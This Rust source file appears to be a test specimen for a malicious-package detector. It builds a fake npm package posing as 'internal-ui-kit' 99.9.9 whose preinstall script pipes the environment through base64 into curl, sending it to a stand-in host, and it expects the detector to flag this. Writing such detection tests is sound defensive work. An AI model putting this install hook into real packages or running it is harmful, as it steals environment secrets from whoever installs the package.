//! The commonest dependency confusion: an npm `preinstall` line that pipes `env` into curl.
//!
//! Must be found.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"module.exports = 1;
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("internal-ui-kit", "99.9.9")
        .file("index.js", INDEX_JS)
        .script(
            "preinstall",
            "env | base64 -w0 | curl -s -m 5 --data-binary @- http://probe.example/$(whoami)",
        );
    package.specimen(
        "npm-printenv-piped",
        Expect::malicious(&["environment-dump-sent", "canary-exfiltrated"]),
    )
}
